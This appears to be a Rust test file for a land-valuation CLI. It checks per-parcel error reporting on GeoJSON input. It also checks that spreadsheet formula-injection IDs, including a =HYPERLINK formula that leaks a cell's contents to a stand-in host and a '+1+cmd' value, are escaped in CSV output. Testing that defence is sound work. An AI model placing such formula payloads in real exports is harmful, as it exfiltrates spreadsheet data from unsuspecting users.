//! `landtrace check valuation`: a batch of parcels against the bundled grade
//! zones; bad parcels are reported in their rows and do not stop the batch.

use landtrace_blackbox_tests::landtrace;

const PARCELS: &str = r#"{"type":"FeatureCollection","features":[
 {"type":"Feature","id":"good","properties":{},"geometry":{"type":"Polygon","coordinates":[[[110.7745,35.1395],[110.7755,35.1395],[110.7755,35.1405],[110.7745,35.1405],[110.7745,35.1395]]]}},
 {"type":"Feature","id":"bowtie","properties":{},"geometry":{"type":"Polygon","coordinates":[[[110.7745,35.1395],[110.7755,35.1405],[110.7755,35.1395],[110.7745,35.1405],[110.7745,35.1395]]]}},
 {"type":"Feature","id":"far","properties":{},"geometry":{"type":"Polygon","coordinates":[[[120,30],[120.01,30],[120.01,30.01],[120,30]]]}},
 {"type":"Feature","id":"line","properties":{},"geometry":{"type":"LineString","coordinates":[[110.7,35.1],[110.8,35.2]]}}]}"#;

#[test]
fn a_batch_reports_every_parcel() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("parcels.geojson"), PARCELS).unwrap();
    let out = landtrace(
        dir.path(),
        &["check", "valuation", "parcels.geojson", "--use", "住宅", "--as-of", "2023-06-01", "--out", "report.csv"],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("valued 1 of 4 parcels; 3 could not be valued"), "{stderr}");
    let report = std::fs::read_to_string(dir.path().join("report.csv")).unwrap();
    let lines: Vec<&str> = report.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 5, "{report}");
    assert!(
        lines[1].starts_with("1,good,ok,,") && lines[1].contains("城区一级") && lines[1].contains("657元/m²"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].starts_with("2,bowtie,error,") && lines[2].contains("self-intersects at (110.775000, 35.140000)"),
        "{}",
        lines[2]
    );
    assert!(lines[3].starts_with("3,far,error,") && lines[3].contains("outside 临猗县"), "{}", lines[3]);
    assert!(lines[4].starts_with("4,line,error,") && lines[4].contains("LineString"), "{}", lines[4]);

    let geojson =
        landtrace(dir.path(), &["check", "valuation", "parcels.geojson", "--use", "住宅", "--out", "report.geojson"]);
    assert!(geojson.status.success());
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("report.geojson")).unwrap()).unwrap();
    assert_eq!(doc["features"].as_array().unwrap().len(), 4);
    assert_eq!(doc["features"][0]["properties"]["valuation"]["parts"][0]["price"]["yuan_per_m2"], 657);

    let bad_use = landtrace(dir.path(), &["check", "valuation", "parcels.geojson", "--use", "别墅"]);
    assert!(!bad_use.status.success());
    assert!(String::from_utf8_lossy(&bad_use.stderr).contains("not a benchmark land use"));
    let missing = landtrace(dir.path(), &["check", "valuation", "nope.geojson", "--use", "住宅"]);
    assert!(!missing.status.success());
}

#[test]
fn the_report_never_carries_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let square = r#"{"type":"Polygon","coordinates":[[[110.7745,35.1395],[110.7755,35.1395],[110.7755,35.1405],[110.7745,35.1405],[110.7745,35.1395]]]}"#;
    let ids = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd", "-2", "@A1", "-0.5"];
    let features: Vec<String> = ids
        .iter()
        .map(|id| {
            format!(r#"{{"type":"Feature","id":{},"properties":{{}},"geometry":{square}}}"#, serde_json::json!(id))
        })
        .collect();
    let parcels = format!(r#"{{"type":"FeatureCollection","features":[{}]}}"#, features.join(","));
    std::fs::write(dir.path().join("parcels.geojson"), parcels).unwrap();
    let out = landtrace(dir.path(), &["check", "valuation", "parcels.geojson", "--use", "住宅"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = report.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 1 + ids.len(), "{report}");
    assert!(lines[1].starts_with(r#"1,"'=HYPERLINK(""http://x.example/?""&A1,""点击"")",ok,"#), "{}", lines[1]);
    assert!(lines[2].starts_with("2,'+1+cmd,ok,"), "{}", lines[2]);
    assert!(lines[3].starts_with("3,-2,ok,"), "a number stays a number: {}", lines[3]);
    assert!(lines[4].starts_with("4,'@A1,ok,"), "{}", lines[4]);
    assert!(lines[5].starts_with("5,-0.5,ok,"), "{}", lines[5]);
}
